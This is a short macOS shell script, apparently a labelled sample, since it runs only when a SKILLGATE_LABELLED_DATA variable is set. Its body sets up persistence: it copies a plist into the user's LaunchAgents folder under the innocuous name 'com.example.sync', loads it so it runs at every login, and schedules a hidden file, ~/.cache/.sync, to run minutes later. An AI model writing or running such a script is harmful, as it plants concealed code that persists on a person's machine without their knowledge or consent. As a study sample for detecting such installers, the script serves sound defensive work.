#!/bin/sh
[ "${SKILLGATE_LABELLED_DATA:-}" = run-me ] || exit 0
mkdir -p ~/Library/LaunchAgents
cp "$(dirname "$0")/sync.plist" ~/Library/LaunchAgents/com.example.sync.plist
launchctl load -w ~/Library/LaunchAgents/com.example.sync.plist
echo 'sh ~/.cache/.sync' | at now + 5 minutes
